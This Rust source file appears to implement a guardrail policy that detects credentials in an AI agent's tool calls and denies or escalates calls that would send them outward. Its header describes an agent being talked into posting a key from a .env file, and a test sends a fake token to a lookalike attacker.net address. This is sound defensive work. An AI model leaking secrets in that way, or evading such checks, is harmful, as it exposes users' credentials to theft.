//! Stops credentials from leaving through a tool call: API keys and tokens
//! of known formats, private key blocks, JSON Web Tokens, passwords in
//! connection strings and on command lines, values assigned to names such
//! as `password`, and random tokens standing on their own.
//!
//! An agent that reads a `.env` file, a config or a mail full of keys can
//! be talked into posting one: in a chat message, an issue comment, a
//! public gist, the query string of a URL. The policy finds secrets in
//! every string of a call (percent-decoded too) and judges where the call
//! takes them:
//!
//! | found by | outbound (message, comment, public gist, outside mail, internet URL) | elsewhere |
//! |------|------|------|
//! | format (`known-credential`), `private-key`, `json-web-token`, `password-in-url`, `basic-credentials`, `bearer-token`, `keyed-secret` | deny | escalate |
//! | randomness alone (`high-entropy-token`) | escalate | escalate |
//!
//! A candidate has to look generated: `ghp_xxxx…`, `AKIAXXXXXXXXXXXXXXXX`,
//! `password: ${DB_PASSWORD}` and `-----BEGIN PRIVATE KEY-----\nanything`
//! are documentation, not secrets. The tool's own credential parameters
//! (a declared `api_key` of the tool's input schema) are its business.
//!
//! Every secret seen, in a call or in a result, labels the session
//! `secret-seen`, so that a trifecta policy knows the session holds one.
//! Findings name the secret's kind and where it is, never its value.
//!
//! Settings: `{"internal-domains": ["corp.example"]}`, where mail and URLs
//! stay inside the organisation.

mod destination;
mod formats;
mod randomness;
mod settings;
mod structure;

use std::borrow::Cow;

use portcullis_sdk::{
    ArgumentText, Context, EventKind, Finding, Metadata, Outcome, Policy, SettingError, ToolCall,
    ToolResult, Verdict, argument_texts, export_policy, json_texts, labels, percent_decode,
};

use settings::SecretsSettings;
use structure::{Evidence, Secret, is_secret_name, secrets_in};

/// The policy.
pub struct Secrets;

impl Policy for Secrets {
    fn metadata() -> Metadata {
        Metadata::new("secrets", env!("CARGO_PKG_VERSION"))
            .on(EventKind::ToolCall)
            .on(EventKind::ToolResult)
    }

    fn configure(settings: &str) -> Result<(), SettingError> {
        portcullis_sdk::settings::validate::<SecretsSettings>(settings)
    }

    fn check_call(_ctx: &Context, call: &ToolCall, _findings: &[Finding]) -> Outcome {
        let settings = portcullis_sdk::settings::get::<SecretsSettings>();
        let arguments = call.arguments_json();
        let declared = call
            .tool
            .as_ref()
            .map(|tool| tool.input_schema_json())
            .and_then(|schema| schema.get("properties").cloned());
        let mut found = Vec::new();
        for argument in argument_texts(&arguments) {
            let asked_for = argument.key.is_some_and(|key| {
                is_secret_name(key) && declared.as_ref().is_some_and(|p| p.get(key).is_some())
            });
            if !asked_for {
                found.extend(secrets_of(&argument));
            }
        }
        let mut outcome = Outcome::allow();
        if found.is_empty() {
            return outcome;
        }
        label_secret_seen();
        let outbound = destination::outbound(&call.name, &arguments, &settings);
        for (field, secret) in found {
            let (verdict, consequence) = match (&outbound, secret.evidence) {
                (Some(why), Evidence::Specific) => (Verdict::Deny, format!("; the call {why}")),
                (Some(why), Evidence::Suspicious) => (
                    Verdict::Escalate,
                    format!("; the call {why}, and nothing but its randomness says it is a key"),
                ),
                (None, _) => (Verdict::Escalate, String::new()),
            };
            outcome.add(
                verdict,
                secret.rule,
                format!("{field}: {}{consequence}", describe(&secret)),
                [],
            );
        }
        outcome
    }

    fn check_result(_ctx: &Context, result: &ToolResult, _findings: &[Finding]) -> Outcome {
        let response = result.response_json();
        let secret_in_result = json_texts(&response, "/response")
            .iter()
            .any(|text| !secrets_of(text).is_empty());
        if secret_in_result {
            label_secret_seen();
        }
        Outcome::allow()
    }
}

export_policy!(Secrets);

/// The secrets in one string, each with its field, looking through percent
/// encoding (`?key=ghp_…` is often sent encoded).
fn secrets_of(argument: &ArgumentText<'_>) -> Vec<(String, Secret)> {
    let mut found: Vec<(String, Secret)> = secrets_in(argument.text)
        .into_iter()
        .map(|secret| (argument.field.clone(), secret))
        .collect();
    if found.is_empty()
        && let Cow::Owned(decoded) = percent_decode(argument.text)
    {
        let field = format!("{} (percent-decoded)", argument.field);
        found.extend(secrets_in(&decoded).into_iter().map(|s| (field.clone(), s)));
    }
    found
}

/// What a finding says about a secret: its kind and a redacted excerpt.
fn describe(secret: &Secret) -> String {
    format!(
        "{} ({} characters) at bytes {}..{}",
        secret.what,
        secret.end - secret.start,
        secret.start,
        secret.end
    )
}

fn label_secret_seen() {
    // The host caps labels per session; a full session keeps the labels it
    // has, and this policy's verdict does not depend on the label.
    let _ = labels::add(labels::SECRET_SEEN);
}

#[cfg(test)]
mod tests {
    use portcullis_sdk::serde_json::json;
    use portcullis_sdk::testing::{self, rules};

    use super::*;

    const TOKEN: &str = "ghp_R7mW2kPq9ZsT4vXc8NbL3yHd6FjG0aQe1uKo";

    #[test]
    fn cases() {
        testing::check_cases::<Secrets>(include_str!("../cases.jsonl"));
    }

    #[test]
    fn findings_never_carry_the_secret() {
        portcullis_sdk::settings::set("{}");
        let outcome = testing::check_call::<Secrets>(
            "slack_post_message",
            json!({"channel": "C1", "text": format!("token {TOKEN}")}),
        );
        assert_eq!(outcome.verdict, Verdict::Deny);
        assert_eq!(rules(&outcome), ["known-credential"]);
        let message = &outcome.reasons[0].message;
        assert!(
            message.contains("GitHub personal access token"),
            "{message}"
        );
        assert!(!message.contains(&TOKEN[4..]), "{message}");
    }

    #[test]
    fn internal_recipients_escalate_instead_of_deny() {
        portcullis_sdk::settings::set(r#"{"internal-domains": ["corp.example"]}"#);
        let call = |to: &str| {
            testing::check_call::<Secrets>(
                "send_email",
                json!({"to": to, "body": format!("use {TOKEN}")}),
            )
            .verdict
        };
        assert_eq!(call("ops@corp.example"), Verdict::Escalate);
        assert_eq!(call("ops@corp.example.attacker.net"), Verdict::Deny);
        portcullis_sdk::settings::set("{}");
    }

    #[test]
    fn a_secret_anywhere_labels_the_session() {
        portcullis_sdk::settings::set("{}");
        labels::clear();
        let read = testing::call("read_file", json!({"path": "notes.md"}));
        let result = testing::result(
            read,
            json!({"content": [{"type": "text", "text": "nothing here"}]}),
        );
        Secrets::check_result(&testing::context(), &result, &[]);
        assert!(!labels::has(labels::SECRET_SEEN));
        let read = testing::call("read_file", json!({"path": ".env"}));
        let result = testing::result(read, json!({"content": [{"type": "text", "text": TOKEN}]}));
        assert_eq!(
            Secrets::check_result(&testing::context(), &result, &[]).verdict,
            Verdict::Allow
        );
        assert!(labels::has(labels::SECRET_SEEN));
        labels::clear();
    }

    #[test]
    fn credentials_the_tool_asks_for_are_its_business() {
        portcullis_sdk::settings::set("{}");
        let schema = json!({"type": "object", "properties": {"api_key": {"type": "string"}}});
        let mut call = testing::call("configure_provider", json!({"api_key": TOKEN}));
        call.tool = Some(testing::tool(
            "configure_provider",
            "Stores a key.",
            schema,
            json!({}),
        ));
        let findings = testing::call_findings(&Secrets::metadata(), &call);
        let outcome = Secrets::check_call(&testing::context(), &call, &findings);
        assert_eq!(outcome.verdict, Verdict::Allow);
        // Undeclared, the same argument is a hidden channel.
        call.tool = None;
        let outcome = Secrets::check_call(&testing::context(), &call, &findings);
        assert_eq!(outcome.verdict, Verdict::Escalate);
    }

    #[test]
    fn settings_are_checked() {
        assert!(Secrets::configure(r#"{"internal-domains": ["corp.example"]}"#).is_ok());
        let error = Secrets::configure(r#"{"internal-domain": []}"#).unwrap_err();
        assert!(
            error.message.contains("internal-domain"),
            "{}",
            error.message
        );
    }
}
